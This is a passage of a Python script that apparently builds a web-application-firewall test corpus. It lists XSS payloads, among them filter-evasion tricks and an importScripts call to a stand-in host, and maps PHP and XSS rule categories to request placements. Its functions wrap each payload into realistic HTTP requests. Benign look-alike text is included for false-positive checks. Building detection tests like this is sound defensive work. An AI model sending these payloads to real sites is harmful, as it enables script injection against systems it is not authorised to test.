    "setTimeout('alert(1)',0)",
    "setInterval(\"alert(1)\",500)",
    "new Function('alert(1)')()",
    "Function(\"alert(1)\")()",
    "atob('YWxlcnQoMSk=')",
    "Dana');alert (1);//",
    "prompt(document.domain)",
    "confirm\n(1)",
    "String.fromCharCode(97,108,101,114,116)",
    "execScript(\"alert(1)\")",
    "importScripts('//evil.example/x.js')",
    "EVAL/**/(location.hash.slice(1))",
]

JS_NO_PARENS = [
    "alert`1`",
    "[].sort.call`${alert}1337`",
    "onerror=alert;throw 1",
    "throw onerror=alert,1",
    "{onerror=eval}throw'=alert\\x281\\x29'",
    "valueOf=alert;window+''",
    "setTimeout`alert\\x281\\x29`",
    "Reflect.apply.call`${alert}${window}${[1]}`",
    "<svg onload=alert&lpar;1&rpar;>",
    "<img src=x onerror=location=name>",
    "[1].find(alert)",
    "[1].map(alert)",
    "new Function`alert\\`1\\``",
    "x\";onerror=alert;throw document.domain;//",
]

# (category, sub, payloads, real placements to rotate over or None, rs placements or None)
SUBS: list[tuple[str, str, list[str], list[str] | None, list[str] | None]] = [
    ("php", "php-open-tag", PHP_OPEN_TAG, None, None),
    ("php", "php-script-file-upload", PHP_UPLOAD,
     ["multipart-filename", "header:X-File-Name", "multipart-filename", "json"],
     ["rs-multipart-filename", "rs-header:X-Filename", "rs-multipart-filename", "rs-header:X_Filename"]),
    ("php", "php-configuration-directive", PHP_CONFIG, None,
     ["rs-query-string", "rs-query-string", "rs-query", "rs-form", "rs-json", "rs-raw-body", "rs-header:User-Agent",
      "rs-cookie", "rs-xml", "rs-param-name"]),
    ("php", "php-variables", PHP_VARIABLES, None, None),
    ("php", "php-io-stream", PHP_IO_STREAM, None, None),
    ("php", "php-wrapper-scheme", PHP_WRAPPER, None, None),
    ("php", "php-high-risk-function-name", PHP_HIGH_FUNC_NAME, None, None),
    ("php", "php-high-risk-function-call", PHP_HIGH_FUNC_CALL, None, None),
    ("php", "php-serialized-object", PHP_SERIALIZED,
     ["cookie", "query", "json", "form", "cookie", "multipart-field", "xml", "header:X-Requested-By"], None),
    ("php", "php-variable-function-call", PHP_VAR_FUNC, None, None),
    ("php", "php-variable-function-call-string-callee", PHP_VAR_FUNC_STRING, None, None),
    ("php", "php-medium-risk-function-name", PHP_MEDIUM_FUNC_NAME, None, None),
    ("xss", "xss-libinjection", XSS_LIBINJECTION, None, None),
    ("xss", "xss-script-tag-vector", XSS_SCRIPT_TAG, None, None),
    ("xss", "xss-event-handler-vector", XSS_EVENT_HANDLER, None, None),
    ("xss", "xss-attribute-vector", XSS_ATTRIBUTE, None, None),
    ("xss", "xss-javascript-uri-vector", XSS_JS_URI, None, None),
    ("xss", "noscript-html-injection", NOSCRIPT_HTML, None, None),
    ("xss", "noscript-attribute-injection", NOSCRIPT_ATTRIBUTE, None, None),
    ("xss", "node-validator-blacklist", NODE_VALIDATOR, None, None),
    ("xss", "ie-xss-941190-style", IE_941190, None, None),
    ("xss", "ie-xss-941200-vmlframe", IE_941200, None, None),
    ("xss", "ie-xss-941210-obfuscated-javascript", IE_941210, None, None),
    ("xss", "ie-xss-941220-obfuscated-vbscript", IE_941220, None, None),
    ("xss", "ie-xss-941230-embed", IE_941230, None, None),
    ("xss", "ie-xss-941240-import-implementation", IE_941240, None, None),
    ("xss", "ie-xss-941250-meta-http-equiv", IE_941250, None, None),
    ("xss", "ie-xss-941260-meta-charset", IE_941260, None, None),
    ("xss", "ie-xss-941270-link-href", IE_941270, None, None),
    ("xss", "ie-xss-941280-base-href", IE_941280, None, None),
    ("xss", "ie-xss-941290-applet", IE_941290, None, None),
    ("xss", "ie-xss-941300-object", IE_941300, None, None),
    ("xss", "ie-xss-941330-location-name", IE_941330, None, None),
    ("xss", "ie-xss-941340-property-assignment", IE_941340, None, None),
    ("xss", "us-ascii-malformed-encoding", US_ASCII, None, None),
    ("xss", "utf7-encoding", UTF7, None, None),
    ("xss", "jsfuck-hieroglyphy", JSFUCK, None, None),
    ("xss", "javascript-global-variable", JS_GLOBAL, None, None),
    ("xss", "xss-libinjection-pl2", XSS_LIBINJECTION_PL2,
     ["header:Referer", "path", "header:Referer", "query", "path"],
     ["rs-header:Referer", "rs-path", "rs-header:Referer", "rs-query"]),
    ("xss", "disallowed-html-attributes", DISALLOWED_ATTR, None, None),
    ("xss", "html-tag-handler", TAG_HANDLER, None, None),
    ("xss", "angularjs-template-injection", ANGULAR, None, None),
    ("xss", "javascript-method", JS_METHOD, None, None),
    ("xss", "js-function-without-parentheses", JS_NO_PARENS, None, None),
]

# ---------------------------------------------------------------------------------------------------------------
# Request building
# ---------------------------------------------------------------------------------------------------------------

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.2592.87",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
]
RS_AGENTS = ["curl/8.5.0", "python-requests/2.32.3", "Go-http-client/1.1", "Wget/1.21.4"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/", "/index.php", "/api/v1/items", "/cgi-bin/test.cgi", "/search"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
QUERY_NAMES = ["q", "search", "name", "filter", "sort"]
FORM_NAMES = ["q", "q", "display_name", "department"]
JSON_FIELDS = ["bio", "title", "department", "display_name", "notes", "website"]
COOKIE_NAMES = ["prefs", "last_search", "cart", "theme", "recently_viewed"]

REAL = ["query", "form", "json", "cookie", "header:User-Agent", "json-u", "header:Referer", "xml",
        "header:X-Requested-By", "multipart-field", "param-name", "path", "query", "form", "json",
        "multipart-filename"]
RS = ["rs-query", "rs-form", "rs-json", "rs-header:User-Agent", "rs-xml", "rs-raw-body", "rs-cookie",
      "rs-header:Referer", "rs-header:X-Custom", "rs-param-name", "rs-query", "rs-form", "rs-json"]
# places a server URL-decodes: the only homes of pre-encoded values
DECODED = {"query", "form", "cookie", "path", "header:Referer", "rs-query", "rs-form", "rs-raw-body", "rs-cookie",
           "rs-query-string", "rs-path", "param-name", "rs-param-name"}
HEADERS_PLACES = {"header:User-Agent", "header:Referer", "header:X-Requested-By", "header:X-File-Name",
                  "rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom", "rs-header:X-Filename",
                  "rs-header:X_Filename", "rs-cookie", "multipart-filename", "rs-multipart-filename",
                  "rs-query-string"}

_rng = random.Random(103_103)


def _tok(n: int = 24) -> str:
    return "".join(_rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(n))


def _q(v: str) -> str:
    return urllib.parse.quote(v, safe="")


def _browser(k: int, extra: dict[str, str] | None = None, cookie: str = "") -> dict[str, str]:
    h = {"User-Agent": BROWSERS[k % len(BROWSERS)],
         "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
         "Accept-Language": ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.8"][k % 3],
         "Accept-Encoding": "gzip, deflate, br",
         "Referer": "https://app.example.com/admin/users",
         "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty",
         "Cookie": f"session={_tok()}; consent=granted" + (f"; {cookie}" if cookie else "")}
    if extra:
        h.update(extra)
    return h


def _json_body(doc: Any, unicode_escapes: bool = False) -> str:
    if not unicode_escapes:
        return json.dumps(doc, ensure_ascii=False)
    body = json.dumps(doc, ensure_ascii=True)
    for ch, esc in (("<", "\\u003c"), (">", "\\u003e"), ("&", "\\u0026"), ("'", "\\u0027")):
        body = body.replace(ch, esc)
    return body


def _xml_text(v: str) -> str:
    return v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _cdata(v: str) -> str:
    return "<![CDATA[" + v.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def _multipart(fields: list[tuple[str, str]], file: tuple[str, str, str, str] | None, k: int) -> tuple[str, str]:
    boundary = f"----WebKitFormBoundary{_tok(16)}"
    parts = []
    for name, value in fields:
        parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    if file is not None:
        field, filename, ctype, content = file
        fn = filename.replace("\"", "%22")
        parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{fn}\"\r\n"
                     f"Content-Type: {ctype}\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{boundary}--\r\n", f"multipart/form-data; boundary={boundary}"


def _req(method: str, uri: str, body: str, headers: dict[str, str]) -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": headers}


def real_request(place: str, v: str, k: int) -> dict[str, Any]:
    """The value in one of our real routes' input places."""
    raw = isinstance(v, R)
    enc = v if raw else _q(v)
    page = str(k % 7 + 1)
    if place == "query":
        name = QUERY_NAMES[k % len(QUERY_NAMES)]
        per = ["20", "50", "100"][k % 3]
        qs = f"{name}={enc}&page={page}&per_page={per}" if k % 2 else f"page={page}&{name}={enc}&per_page={per}"
        return _req("GET", f"/api/users?{qs}", "", _browser(k, {"Accept": "application/json"}))
    if place == "form":
        name = FORM_NAMES[k % len(FORM_NAMES)]
        val = v if raw else urllib.parse.quote_plus(v)
        body = f"csrf_token={_tok(32)}&{name}={val}&status=active"
        return _req("POST", "/admin/users/search", body,
                    _browser(k, {"Content-Type": "application/x-www-form-urlencoded",
                                 "Origin": "https://app.example.com", "Sec-Fetch-Mode": "navigate"}))
    if place in ("json", "json-u"):
        field = JSON_FIELDS[k % len(JSON_FIELDS)]
        shape = k % 4
        doc: dict[str, Any] = {"name": "Dana Whitfield", "email": "dana.whitfield@example.org"}
        if shape == 1:
            doc["tags"] = ["crm", "q3-renewal", v]
        elif shape == 2:
            doc["profile"] = {"locale": "en-US", field: v}
        else:
            doc[field] = v
        uri, method = ("/api/users/42", "PATCH") if k % 5 == 3 else ("/api/users", "POST")
        return _req(method, uri, _json_body(doc, place == "json-u"),
                    _browser(k, {"Accept": "application/json", "Content-Type": "application/json",
                                 "Origin": "https://app.example.com", "X-CSRF-Token": _tok(32)}))
    if place == "cookie":
        cname = COOKIE_NAMES[k % len(COOKIE_NAMES)]
        return _req("GET", f"/api/users?page={page}", "", _browser(k, {"Accept": "application/json"},
                                                                     cookie=f"{cname}={enc}"))
    if place == "header:User-Agent":
        return _req("GET", f"/api/users?page={page}", "",
                    _browser(k, {"User-Agent": BROWSERS[k % len(BROWSERS)] + " " + v}))
    if place == "header:Referer":
        ref = f"https://app.example.com/search?q={enc}&src=nav"
        return _req("GET", f"/api/users?page={page}", "", _browser(k, {"Referer": ref}))
    if place in ("header:X-Requested-By", "header:X-File-Name"):
        name = place.split(":", 1)[1]
        return _req("GET" if name == "X-Requested-By" else "POST", "/api/users/42/avatar"
                    if name == "X-File-Name" else f"/api/users?page={page}",
                    "GIF89a\x01\x00" if name == "X-File-Name" else "",
                    _browser(k, {name: v, "Accept": "application/json"}
                             | ({"Content-Type": "application/octet-stream"} if name == "X-File-Name" else {})))
    if place == "param-name":
        return _req("GET", f"/api/users?{enc}=1&page={page}", "", _browser(k, {"Accept": "application/json"}))
    if place == "xml":
        body = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user><name>Dana Whitfield</name>"
                f"<email>dana.whitfield@example.org</email><bio>{_cdata(v)}</bio></user>")
        return _req("POST", "/api/users", body,
                    _browser(k, {"Content-Type": "application/xml", "Accept": "application/xml"}))
    if place == "multipart-field":
        body, ctype = _multipart([("csrf_token", _tok(32)), ("display_name", "Dana W."), ("bio", v)], None, k)
        return _req("POST", "/api/users/42/profile", body, _browser(k, {"Content-Type": ctype}))
    if place == "multipart-filename":
        body, ctype = _multipart([("csrf_token", _tok(32))], ("avatar", v, "image/gif", "GIF89a small image"), k)
        return _req("POST", "/api/users/42/avatar", body, _browser(k, {"Content-Type": ctype}))
    if place == "path":
        return _req("GET", f"/api/users/{enc}", "", _browser(k, {"Accept": "application/json"}))
    raise ValueError(place)


def rs_request(place: str, v: str, k: int) -> dict[str, Any]:
    """The value sent the way a WAF regression suite sends it."""
    raw = isinstance(v, R)
    enc = v if raw else _q(v)
    path = RS_PATHS[k % len(RS_PATHS)]
    ppath = RS_POST_PATHS[k % len(RS_POST_PATHS)]
    name = RS_NAMES[k % len(RS_NAMES)]
    h: dict[str, str] = {"User-Agent": RS_AGENTS[k % len(RS_AGENTS)], "Accept": "*/*"}
    if place == "rs-query":
        return _req("GET", f"{path}?{name}={enc}", "", h)
    if place == "rs-param-name":
        return _req("GET", f"{path}?{enc}=1", "", h)
    if place == "rs-query-string":
        return _req("GET", f"/index.php?{v}", "", h)
    if place == "rs-path":
        return _req("GET", f"/index.php/{enc}", "", h)
    if place == "rs-form":
        val = v if raw else urllib.parse.quote_plus(v)
        return _req("POST", ppath, f"{name}={val}", {**h, "Content-Type": "application/x-www-form-urlencoded"})
    if place == "rs-raw-body":
        return _req("POST", ppath, v, {**h, "Content-Type": "application/x-www-form-urlencoded"})
    if place == "rs-json":
        return _req("POST", ppath, json.dumps({name: v}, ensure_ascii=False), {**h, "Content-Type": "application/json"})
    if place == "rs-xml":
        body = f"<?xml version=\"1.0\"?>\n<root><{name}>{_xml_text(v)}</{name}></root>"
        return _req("POST", ppath, body, {**h, "Content-Type": "text/xml"})
    if place == "rs-cookie":
        return _req("GET", path, "", {**h, "Cookie": f"{name}={v}"})
    if place.startswith("rs-header:"):
        hname = place.split(":", 1)[1]
        return _req("GET", path, "", {**h, hname: v})
    if place == "rs-multipart-filename":
        body, ctype = _multipart([("submit", "Upload")], ("file", v, "application/octet-stream", "test"), k)
        return _req("POST", ppath, body, {**h, "Content-Type": ctype})
    raise ValueError(place)


def _fits(place: str, v: str) -> bool:
    if isinstance(v, R) and place not in DECODED:
        return False
    if place == "rs-query-string" and not isinstance(v, R):
        return False
    if place in HEADERS_PLACES and any(c in v for c in "\r\n\x00"):
        return False
    return not (place == "rs-cookie" and ";" in v)


def _choose(cands: list[str], start: int, v: str, fallback: list[str]) -> str:
    for i in range(len(cands)):
        place = cands[(start + i) % len(cands)]
        if _fits(place, v):
            return place
    for i in range(len(fallback)):
        place = fallback[(start + i) % len(fallback)]
        if _fits(place, v):
            return place
    raise ValueError(v)


def attacks() -> Iterator[dict[str, Any]]:
    counters: dict[str, int] = {}
    k_real = 0
    k_rs = 0
    for category, sub, payloads, real_cands, rs_cands in SUBS:
        for i, v in enumerate(payloads):
            real_place = _choose(real_cands or REAL, i if real_cands else k_real, v, REAL)
            rs_place = _choose(rs_cands or RS, i if rs_cands else k_rs, v, RS)
            k_real += 1
            k_rs += 1
            for place, rec in ((real_place, real_request(real_place, v, k_real)),
                               (rs_place, rs_request(rs_place, v, k_rs))):
                counters[category] = counters.get(category, 0) + 1
                yield {**rec, "id": f"{NAME}-{category}-{counters[category]:04d}", "category": category,
                       "sub": sub, "placement": place, "payload": str(v)}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, innocently
# ---------------------------------------------------------------------------------------------------------------

CHAT = [
    "anyone else seeing the php-fpm pool max out around 9am? bumping pm.max_children to 40",
    "the <script> tag in the marketing footer is the cookie banner, leave it for now",
    "reminder: system maintenance window tonight 22:00-23:00 UTC",
    "I'll exec the migration once the backup finishes",
    "does anyone know why our phpinfo page is still reachable on staging? I'll remove it",
    "the eval numbers for the ranking model are in the sheet, recall went up 3 points",
    "alert: disk usage on db-2 at 85%, I'm on it",
    "we should move the inline onclick handlers into the bundle, CSP is complaining",
    "document.cookie is not available in the service worker, use the cache API instead",
    "our window cleaning service comes Thursday, please clear your desks",
    "the location field on the profile page is optional now",
    "style guide says: use 'e-mail' nowhere, just 'email'",
    "the import from the old CRM finished, 12,400 contacts",
    "embed the YouTube video in the onboarding page please",
    "object storage bill went down after the lifecycle rule",
    "the applet in the old HR portal finally got retired",
    "meta: can we keep this channel for deploys only?",
    "please set the charset to UTF-8 in the CSV export, Excel mangles umlauts otherwise",
    "the base image moved to debian bookworm",
    "link to the retro doc is pinned",
    "I upgraded the serializer, objects now round-trip properly",
    "the expect tests are flaky on CI again",
    "glob patterns in the deploy script need quoting",
    "data import for Q3 is complete",
    "the zip of the design assets is in the shared drive",
    "Angular 17 migration is 60% done, templates compile",
    "our Vue components use v-html in one place, I'll replace it with text binding",
    "constructor injection is the default in the new services",
    "the prototype for the new dashboard is on Figma",
    "top priority this week: the billing bug",
    "self-review forms are due Friday",
    "parent company announcement at 3pm",
    "frames per second dropped on the animation page, investigating",
    "content team wants the blog moved to the new CMS",
    "function names in the SDK should be camelCase",
    "setTimeout in the poller is 5s, could we make it 10?",
    "the cookie consent banner text needs a German translation",
    "fixed the innerHTML warning from the linter",
    "the parent node check was missing in the tree view",
    "PHP 8.3 upgrade on the WordPress boxes went fine",
    "WordPress plugin updates are scheduled for Sunday",
    "Laravel queue workers restarted",
    "moved the uploads folder to S3",
    "renamed report-final.pdf to report-2024-q3.pdf",
    "the upload limit is 20MB for avatars",
    "I need the style sheet for the print view",
    "system prompt for the support bot updated",
    "the onboarding email goes out on load of the welcome page",
    "our VBScript macros in the finance workbook are being replaced with Python",
    "javascript bundle size is down to 180kb",
    "the object model for invoices changed, see the ADR",
    "embed code for the widget is in the README",
    "the meta description for the landing page is too long",
    "base URL for the staging API is api.staging.example.com",
    "hieroglyphs exhibit at the museum was great",
    "the framework's global config lives in config/app.php",
    "who owns the cron that runs the nightly export?",
    "shell access to prod is now via the bastion only",
    "passthrough mode on the load balancer is off",
    "the file upload widget now shows progress",
    "variables in the Terraform module are documented",
    "input validation is handled in the form request classes",
    "output buffering is enabled in production",
    "stream of events from the webhook is steady",
    "the wrapper script around rsync handles retries",
    "serialization format for the cache is JSON now",
    "configuration directives for nginx are in the repo",
    "the template engine is Twig for the admin, Blade for the app",
    "ping me if the report job fails again",
    "assert statements are stripped in the production build",
    "the popen call in the old importer was removed",
    "we replaced create_function with closures years ago",
    "exec summary for the board is attached",
    "open tag stuff in the template was a false alarm",
    "our PHP session handler uses redis",
    "the file name filter rejects double extensions now",
    "the .htaccess rules were migrated to nginx",
    "we tested the UTF-7 handling in the mail parser, all good",
    "the JSFuck talk at the meetup was hilarious",
    "AngularJS is end of life, the admin still uses it",
    "global variables in the legacy code are being removed",
    "tag handler for the markdown renderer is fixed",
    "the attribute list for the product page is long",
    "event handler registration moved to the init function",
    "the script tag loads async now",
    "the link preview shows the wrong image",
    "the iframe embed for the maps widget needs a title",
    "form validation messages are translated",
    "the textarea grows with content now",
    "select boxes have a search now",
    "the marquee on the old intranet is finally gone",
    "applet, embed and object tags are all gone from the legacy portal",
    "chmod on the deploy directory was wrong, fixed",
    "symlink for current release points to the new build",
    "the tempnam warning in the logs is harmless",
    "curl exec timeouts on the payment provider are back",
    "phpversion() reports 8.2.20 on web-3",
    "getenv for the API key moved to the secrets manager",
    "move_uploaded_file fails when the tmp dir is full",
    "the FTP connect option is deprecated",
    "Dana's bio needs a fix, the ampersand shows as &amp;",
    "the price is 5 < 7 so we keep the cheaper plan",
    "ratio of returns > 2% triggers a review",
    "use the onboarding checklist; it's in Notion",
    "that eval harness prints location and name of each failing case",
    "window.location redirect on login is handled by the router now",
    "new Image() preloading for the gallery works",
    "the body copy of the newsletter is final",
    "we need a title and a description for each product",
    "Q: what's the charset of the legacy DB? A: latin1",
    "the import implementation for CSVs is in ImportService",
    "behavior of the search box changed after the update",
    "expression builder in the reports module is fixed",
]

BIOS = [
    "PHP developer since 2008, Laravel and Symfony, coffee enthusiast",
    "Front-end engineer. I write JavaScript, TypeScript and too many CSS animations.",
    "Security analyst; I read OWASP docs for fun.",
    "Formerly at Acme Corp; now building systems for logistics.",
    "Runner, reader, and occasional speaker on web performance.",
    "I maintain the company's WordPress sites and the internal wiki.",
    "Data engineer: Spark, Airflow, and a lot of SQL.",
    "Product designer who loves typography and style guides.",
    "Support lead. Ask me about the import tool.",
    "Mobile dev (Swift, Kotlin), AngularJS survivor.",
    "Ops on-call rotation: weeks 2 and 4",
    "Writes about document management and workflow automation.",
    "Based in Zürich; speaks German, French and some Italian.",
    "Location: Lisbon. Favourite script: Python.",
    "Loves old browsers; once ran IE6 in a VM for a month.",
    "Co-author of 'Modern PHP Patterns' (2nd ed.)",
    "QA engineer; expect tests, jest, playwright.",
    "I wrap things: gift-wrapping champion 2019.",
    "Object-oriented thinker, functional programmer at heart.",
    "Runs the internal Angular guild meetings.",
]

SEARCHES = [
    "john smith", "dana whitfield", "o'brien", "müller", "josé garcía", "li wei", "anne-marie", "van der berg",
    "php developer", "javascript", "senior java engineer", "system administrator", "devops", "data scientist",
    "script writer", "style director", "window sales", "document control", "cookie factory", "location manager",
    "object storage", "embed engineer", "import export", "base camp", "link building", "meta analysis",
    "applet", "frame shop", "body shop manager", "marquee events", "alert logic", "eval team", "exec assistant",
    "system engineer berlin", "shell oil", "passthrough", "popen", "assert", "include", "require",
    "expression", "behavior analyst", "vb script", "vbscript migration", "javascript: the good parts",
    "php://", "phar", "zip code 10115", "glob", "expect", "data protection officer", "compress",
    "top performers", "self service", "parent portal", "frames", "content editor", "global head of sales",
    "constructor", "prototype", "template", "angular", "vue", "react", "node", "php 8", "laravel", "symfony",
    "wordpress", "drupal", "joomla", "magento", "typo3", "shopware", "c#", "c++", "f#", ".net",
    "r&d", "at&t", "ben & jerry", "5 < 7", "a > b", "50% off", "100$", "#1 seller", "email@example.org",
    "tom's diner", "\"exact phrase\"", "onload", "onerror", "on-call", "on call schedule", "utf-7", "charset",
]

PROSE = [
    "Please update the system documentation before the audit on Friday.",
    "The script for the product video is attached; let me know about the style.",
    "We need an alert when the document count drops below 1,000.",
    "Our location in Berlin moves to a new building; the base rent stays the same.",
    "The import of the object catalogue failed on row 2,341 (invalid charset).",
    "Could you embed the survey link in the newsletter? The meta title is fine.",
    "Cookie consent: we only set necessary cookies unless the user opts in.",
    "The window for returns is 30 days; exceptions need manager approval.",
    "The applet-based time clock is replaced by the mobile app in May.",
    "Please evaluate (eval) the vendor proposals by next week.",
    "Exec team offsite: agenda in the shared folder.",
    "Top 10 customers by revenue are listed in the appendix.",
    "Parent/guardian consent is required for participants under 16.",
    "The content calendar for Q4 is ready for review.",
    "Use the expression 'best effort' sparingly in contracts.",
    "The behavior of the checkout changed after the payment update.",
    "Function: Head of Finance. Department: Finance & Controlling.",
    "Frames and lenses are covered up to 150 EUR per year.",
    "This prototype is not production-ready; expect rough edges.",
    "The constructor company confirmed the delivery date.",
    "The global rollout starts in APAC, then EMEA.",
    "Self-assessment forms are in the HR portal.",
    "Input from the design team: use a lighter style for links.",
    "Output of the quarterly report: 42 pages.",
    "The wrapper on the sandwich says 'contains nuts'.",
    "Streams of feedback came in after the launch.",
    "Serial number: SN-2024-00981, object type: laptop.",
    "Variable pay is paid out in March.",
    "Configuration of the printers is handled by IT.",
    "Upload your receipts as PDF or JPG, max 10 MB each.",
    "The open house starts at 5 pm; tags for name badges are at the door.",
    "Hieroglyphics workshop for kids on Saturday.",
    "Our JavaScript course covers events, the DOM and fetch.",
    "The PHP meetup is on the 12th; talk: 'Modern PHP in 2024'.",
    "Angular templates use double curly braces for interpolation.",
    "Location: 221B Baker Street, London NW1 6XE",
    "Name: Zoë D'Angelo-Smith, Title: VP Marketing & Communications",
    "Invoice #2024-0113: 3 x monitor @ 199.00 EUR",
    "Agenda: 1) intro 2) demo 3) Q&A",
    "Price range: 10-20 EUR; (incl. VAT)",
]

PUBLIC_URLS = [
    "https://www.php.net/manual/en/function.system.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/ini.core.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/location",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/meta",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/embed",
    "https://angular.io/guide/template-syntax",
    "https://docs.angularjs.org/guide/expression",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://en.wikipedia.org/wiki/JSFuck",
    "https://laravel.com/docs/11.x/filesystem",
    "https://wordpress.org/plugins/",
    "https://github.com/acme/shop/blob/main/src/Controller/UploadController.php",
    "https://example.com/files/report-2024-q3.pdf",
    "https://cdn.example.org/js/app.min.js?v=4.2.1",
    "https://www.google.com/search?q=php+file+upload+best+practices",
    "https://www.bing.com/search?q=javascript+window+location",
    "https://stackoverflow.com/questions/12345/how-to-escape-html-in-php",
    "https://app.example.com/admin/users?page=3&sort=name",
    "https://www.youtube.com/embed/dQw4w9WgXcQ",
    "https://maps.example.com/?location=52.52,13.405",
]

NAMES = [
    ("Zoë D'Angelo", "Head of Script Development", "Writers' Room"),
    ("Björn Ødegaard", "System Architect", "Platform"),
    ("Siobhán O'Neil", "Document Controller", "Quality"),
    ("Jean-Luc Picard", "Exec Assistant", "Office of the CEO"),
    ("María José Fernández", "Location Manager", "Film & TV"),
    ("Dr. Anna Müller-Lüdenscheidt", "Style Editor", "Publishing"),
    ("李伟", "Frontend Engineer", "Web"),
    ("Nguyễn Thị Minh", "Data Analyst", "BI"),
    ("Ahmed Al-Sayed", "Object Storage Lead", "Infrastructure"),
    ("Olivia \"Liv\" Brown", "Cookie Policy Officer", "Legal"),
    ("Kim Ji-woo", "Embedded Engineer", "Hardware"),
    ("Tomás Ó Briain", "Import Specialist", "Logistics"),
    ("Priya Raman", "PHP Developer", "Web"),
    ("Lars Eriksson", "JavaScript Lead", "Web"),
    ("Fatima Zahra", "Alert Engineer", "SRE"),
    ("Renée Lefèvre", "Meta Ads Specialist", "Marketing"),
    ("Giulia Bianchi", "Base Operations", "Facilities"),
    ("Hans-Peter Groß", "Applet Migration", "Legacy"),
    ("Sean O'Connor", "Window & Door Sales", "Retail"),
    ("Yuki Tanaka", "Angular Developer", "Web"),
]

ADDRESSES = [
    "Unter den Linden 77, 10117 Berlin",
    "1600 Amphitheatre Pkwy, Mountain View, CA 94043",
    "10 Downing St, London SW1A 2AA",
    "Rue de Rivoli 99, 75001 Paris",
    "Apt. #4B, 350 Fifth Avenue, New York, NY 10118",
    "P.O. Box 1234, Anchorage, AK 99501",
    "Calle de Alcalá 42, 28014 Madrid",
    "Bahnhofstrasse 1, 8001 Zürich",
    "c/o Acme GmbH, Script-Allee 5, 80331 München",
    "Object Park, Building 3 & 4, Dublin 2",
]

UPLOAD_NAMES = [
    "report-2024-q3.pdf", "avatar.png", "IMG_20240612_101500.jpg", "profile photo (1).jpeg", "résumé-zoë.pdf",
    "php-cheatsheet.pdf", "script-draft-v2.docx", "style-guide.pdf", "window-measurements.xlsx",
    "document.scan.pdf", "logo@2x.png", "invoice_2024-0113.pdf", "team photo & friends.jpg", "data.csv",
    "export (final) (2).csv", "presentation.pptx", "screenshot 2024-06-12 at 10.15.00.png", "notes.txt",
    "archive.zip", "backup.tar.gz", "embed-codes.txt", "meta-data.json", "object-list.xlsx", "base64-notes.md",
    "applet-retirement-plan.docx", "angular-migration.pdf", "location_map.png", "cookie-policy.pdf",
    "system-diagram.svg.png", "php_upgrade_notes.txt",
]

REFERERS = [
    "https://www.google.com/search?q=acme+admin+login",
    "https://www.bing.com/search?q=javascript+alert+box+style",
    "https://duckduckgo.com/?q=php+system+requirements",
    "https://app.example.com/admin/users?q=script+writer",
    "https://app.example.com/admin/users/search?q=o%27brien",
    "https://t.co/AbC123xyz",
    "https://www.linkedin.com/feed/",
    "https://news.ycombinator.com/item?id=40000000",
    "https://github.com/acme/shop/pull/1234",
    "https://mail.google.com/mail/u/0/",
]

COOKIES = [
    "theme=dark", "lang=de-DE", "tz=Europe%2FBerlin", "last_search=php%20developer",
    "recently_viewed=42%2C17%2C8", "cart=%5B%7B%22sku%22%3A%22A-1%22%2C%22qty%22%3A2%7D%5D",
    "prefs=%7B%22density%22%3A%22compact%22%2C%22style%22%3A%22modern%22%7D", "ab_test=variant_b",
    "_ga=GA1.2.1234567890.1719000000", "last_search=window%20cleaning",
]

PATHS = [
    "/api/users/42", "/api/users/42/avatar", "/api/users?page=2", "/api/users/dana.whitfield", "/api/teams/7/members",
    "/api/documents/2024-q3-report", "/api/scripts/onboarding", "/api/styles/default", "/api/locations/berlin",
    "/api/objects/abc-123", "/api/imports/last", "/api/meta", "/api/links/pinned", "/api/users/42/cookies",
    "/api/search/php%20developer", "/api/tags/javascript", "/api/exports/data.csv", "/api/system/status",
    "/me/settings", "/me/profile",
]

XML_BIOS = [
    "PHP developer; loves <em>clean</em> code",
    "Script supervisor & style editor",
    "Document controller at Acme",
    "I work on window and door systems",
    "Object storage, base images, and alerts",
    "Angular & Vue front-ends",
    "Import/export coordinator",
    "Location scout (film)",
    "Embedded systems engineer",
    "Cookie baker on weekends",
]


def _slack_message(text: str, n: int, k: int) -> dict[str, Any]:
    epoch = 1719000000 + n * 7
